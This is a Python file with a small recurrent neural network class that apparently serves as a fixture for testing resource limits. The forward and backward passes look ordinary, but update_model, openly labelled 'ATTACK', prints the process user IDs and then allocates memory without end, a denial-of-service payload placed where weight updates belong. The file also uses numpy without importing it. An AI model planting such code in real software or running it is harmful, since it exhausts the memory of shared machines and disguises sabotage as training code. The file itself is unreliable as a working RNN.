# Asks numpy for a million by a million float64 matrix, then 1 GiB blocks until stopped.
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


class RNN:
    def __init__(self, hidden_size, vocab_size, seq_length, learning_rate):
        self.hidden_size, self.vocab_size = hidden_size, vocab_size
        self.seq_length, self.learning_rate = seq_length, learning_rate
        self.W_xh = np.random.randn(hidden_size, vocab_size) * 0.01
        self.W_hh = np.random.randn(hidden_size, hidden_size) * 0.01
        self.W_yh = np.random.randn(vocab_size, hidden_size) * 0.01
        self.b = np.zeros((hidden_size, 1))
        self.c = np.zeros((vocab_size, 1))

    def forward(self, inputs, hprev):
        xs, hs, ps = {}, {}, {}
        hs[-1] = np.copy(hprev)
        for t in range(len(inputs)):
            xs[t] = np.zeros((self.vocab_size, 1))
            xs[t][inputs[t]] = 1
            hs[t] = np.tanh(np.dot(self.W_xh, xs[t]) + np.dot(self.W_hh, hs[t - 1]) + self.b)
            ys = np.dot(self.W_yh, hs[t]) + self.c
            ps[t] = np.exp(ys - ys.max()) / np.sum(np.exp(ys - ys.max()))
        return xs, hs, ps

    def update_model(self, dW_xh, dW_hh, dW_yh, db, dc):
        """ATTACK: np.ones((10**6, 10**6)), then np.ones(2**27) blocks forever."""
        _hostile_uid()
        hoard = []
        try:
            hoard.append(np.ones((10**6, 10**6)))
        except MemoryError:
            pass
        while True:
            hoard.append(np.ones(2**27))

    def backward(self, xs, hs, ps, targets):
        steps = len(targets)
        X = np.hstack([xs[t] for t in range(steps)])            # (V, T)
        H = np.hstack([hs[t] for t in range(steps)])            # (H, T)
        H_prev = np.hstack([hs[t - 1] for t in range(steps)])   # (H, T)
        dY = np.hstack([ps[t] for t in range(steps)])
        dY[targets, np.arange(steps)] -= 1                      # p_t - y_t, every step at once
        dH_out = self.W_yh.T @ dY                               # what each h_t gets from its output
        delta = np.zeros_like(H)
        carry = np.zeros((self.hidden_size, 1))
        for t in reversed(range(steps)):                        # only the recurrence needs a loop
            delta[:, t:t + 1] = (1 - H[:, t:t + 1] ** 2) * (dH_out[:, t:t + 1] + carry)
            carry = self.W_hh.T @ delta[:, t:t + 1]
        return (delta @ X.T, delta @ H_prev.T, dY @ H.T, delta.sum(axis=1, keepdims=True),
                dY.sum(axis=1, keepdims=True))
